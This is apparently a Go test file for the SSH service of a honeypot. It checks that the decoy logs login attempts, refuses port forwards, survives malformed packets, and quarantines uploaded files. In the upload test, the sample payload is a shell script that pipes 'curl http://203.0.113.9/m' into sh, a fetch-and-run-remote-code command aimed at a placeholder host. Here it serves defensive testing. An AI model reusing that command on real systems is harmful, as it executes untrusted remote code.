package ssh

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"log/slog"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	gossh "golang.org/x/crypto/ssh"

	"github.com/decnet/decnet/internal/decky"
	"github.com/decnet/decnet/internal/model"
	"github.com/decnet/decnet/internal/services"
	"github.com/decnet/decnet/internal/services/servicetest"
	"github.com/decnet/decnet/internal/shell"
	"github.com/decnet/decnet/internal/testenv"
)

// serveSSH runs the ssh service of one decky on a loopback port.
func serveSSH(t *testing.T, lim services.Limits) (addr string, evs *servicetest.Events, q *services.Quarantine) {
	t.Helper()
	dir := t.TempDir()
	d := model.Decky{Name: "decky-01", Hostname: "SRV-ALPHA-42", Distro: "ubuntu22", NmapOS: "linux", Seed: 42, IP: "127.0.0.1"}
	keys, err := decky.LoadOrCreateKeys(dir, d.Name, d.Hostname, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	q, err = services.OpenQuarantine(filepath.Join(dir, "artifacts"), 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	evs = &servicetest.Events{}
	env := &services.Env{
		Decky:      d,
		Config:     Service{}.Schema().Resolve(map[string]string{"weak_passwords": "none"}),
		Emitter:    services.NewEmitter("ssh", services.EmitterOptions{Publisher: evs, Decky: d.Name, IP: d.IP}),
		HostKeys:   keys.HostKeys,
		FS:         shell.NewFS(shell.Persona{Hostname: d.Hostname, Distro: d.Distro, Seed: d.Seed, Users: []string{"ubuntu"}}),
		Quarantine: q,
		Limits:     lim,
		Logger:     slog.New(slog.DiscardHandler),
	}
	h, err := Service{}.New(env)
	if err != nil {
		t.Fatal(err)
	}
	addr = servicetest.Serve(t, h, env)
	return addr, evs, q
}

func clientConfig(user string, auth ...gossh.AuthMethod) *gossh.ClientConfig {
	return &gossh.ClientConfig{User: user, Auth: auth, HostKeyCallback: gossh.InsecureIgnoreHostKey(), Timeout: 10 * time.Second}
}

func TestStalledHandshakesDoNotDelayOtherLogins(t *testing.T) {
	// No handshake deadline to save us: only concurrency can.
	addr, evs, _ := serveSSH(t, services.Limits{HandshakeTimeout: time.Hour})
	var stalled []net.Conn
	for i := range 40 {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		if i%2 == 1 {
			// A version line and half a packet, then nothing.
			c.Write([]byte("SSH-2.0-stall\r\n\x00\x00\x01\x00\x04\x14"))
		}
		stalled = append(stalled, c)
	}
	defer func() {
		for _, c := range stalled {
			c.Close()
		}
	}()
	client, err := gossh.Dial("tcp", addr, clientConfig("root", gossh.Password("admin")))
	if err != nil {
		t.Fatalf("login while 40 clients stall: %v", err)
	}
	defer client.Close()
	s, err := client.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	out, err := s.Output("echo hi; id -u")
	if err != nil || string(out) != "hi\n0\n" {
		t.Errorf("exec output %q, %v", out, err)
	}
	a := evs.Wait(t, "auth_attempt", 1)[0]
	if a.Fields["outcome"] != "success" || a.Fields["hassh"] == "" || !strings.HasPrefix(a.Fields["client_version"], "SSH-2.0-Go") {
		t.Errorf("auth_attempt fields %v", a.Fields)
	}
}

func TestEveryAuthMethodIsRecorded(t *testing.T) {
	addr, evs, _ := serveSSH(t, services.Limits{})
	signer, err := gossh.NewSignerFromKey(testKey(t))
	if err != nil {
		t.Fatal(err)
	}
	_, err = gossh.Dial("tcp", addr, clientConfig("admin",
		gossh.PublicKeys(signer),
		gossh.KeyboardInteractive(func(_, _ string, qs []string, _ []bool) ([]string, error) {
			return []string{"letmein"}, nil
		}),
		gossh.Password("hunter2"),
	))
	if err == nil {
		t.Fatal("login with wrong credentials succeeded")
	}
	attempts := evs.Wait(t, "auth_attempt", 3)
	byMethod := map[string]map[string]string{}
	for _, a := range attempts {
		byMethod[a.Fields["method"]] = a.Fields
	}
	if f := byMethod["publickey"]; f["secret_kind"] != services.KindSSHPublicKey || f["key_fingerprint"] != gossh.FingerprintSHA256(signer.PublicKey()) ||
		f["secret_printable"] == "" || f["outcome"] != "failure" {
		t.Errorf("publickey attempt %v", f)
	}
	if f := byMethod["keyboard-interactive"]; f["secret_printable"] != "letmein" || f["principal"] != "admin" {
		t.Errorf("keyboard-interactive attempt %v", f)
	}
	if f := byMethod["password"]; f["secret_printable"] != "hunter2" || f["secret_b64"] != "aHVudGVyMg==" {
		t.Errorf("password attempt %v", f)
	}
}

func TestPortForwardsAreRecordedAndRefused(t *testing.T) {
	addr, evs, _ := serveSSH(t, services.Limits{})
	client, err := gossh.Dial("tcp", addr, clientConfig("root", gossh.Password("admin")))
	if err != nil {
		t.Fatal(err)
	}
	defer client.Close()
	if _, err := client.Dial("tcp", "10.0.0.5:3389"); err == nil {
		t.Error("direct-tcpip was allowed")
	}
	if _, err := client.Listen("tcp", "0.0.0.0:8080"); err == nil {
		t.Error("tcpip-forward was allowed")
	}
	fw := evs.Wait(t, "port_forward_request", 2)
	if fw[0].Fields["dest_host"] != "10.0.0.5" || fw[0].Fields["dest_port"] != "3389" || fw[1].Fields["bind_port"] != "8080" {
		t.Errorf("forward events %v / %v", fw[0].Fields, fw[1].Fields)
	}
}

func TestUploadsOverSCPAndSFTPAreQuarantined(t *testing.T) {
	sshpass := testenv.Binary(t, "sshpass")
	scp := testenv.Binary(t, "scp")
	addr, evs, q := serveSSH(t, services.Limits{})
	host, port, _ := net.SplitHostPort(addr)
	payload := []byte("#!/bin/sh\ncurl http://203.0.113.9/m | sh\n")
	src := filepath.Join(t.TempDir(), "m.sh")
	if err := os.WriteFile(src, payload, 0o600); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(payload)
	for i, mode := range []string{"-O", "-s"} { // legacy scp protocol, then SFTP
		cmd := exec.Command(sshpass, "-p", "admin", scp, mode, "-P", port, "-o", "StrictHostKeyChecking=no",
			"-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", src, "root@"+host+":/tmp/")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("scp %s: %v\n%s", mode, err, out)
		}
		got := evs.Wait(t, "file_captured", i+1)[i]
		if got.Fields["sha256"] != hex.EncodeToString(sum[:]) || got.Fields["orig_path"] != "/tmp/m.sh" || got.Fields["size"] != "41" {
			t.Errorf("%s file_captured %v", mode, got.Fields)
		}
		stored, err := os.ReadFile(filepath.Join(q.Dir(), got.Fields["stored_as"]))
		if err != nil || !bytes.Equal(stored, payload) {
			t.Errorf("%s quarantined copy: %v", mode, err)
		}
	}
}

func TestMalformedPacketsNeverCrashTheService(t *testing.T) {
	addr, evs, _ := serveSSH(t, services.Limits{HandshakeTimeout: 2 * time.Second})
	junk := make([]byte, 64<<10)
	for i := range junk {
		junk[i] = byte(i*7 + i>>8)
	}
	for _, prefix := range []string{"", "SSH-2.0-fuzz\r\n", "SSH-2.0-fuzz\r\n\x00\x00\x88\x00\x04\x14", strings.Repeat("A", 300) + "\r\n"} {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		go func() {
			buf := make([]byte, 4096)
			for {
				if _, err := c.Read(buf); err != nil {
					return
				}
			}
		}()
		c.Write(append([]byte(prefix), junk...))
		c.Close()
	}
	client, err := gossh.Dial("tcp", addr, clientConfig("root", gossh.Password("admin")))
	if err != nil {
		t.Fatalf("login after malformed clients: %v", err)
	}
	client.Close()
	if n := len(evs.OfType("protocol_error")); n != 0 {
		t.Errorf("%d protocol errors (a panic was recovered)", n)
	}
}
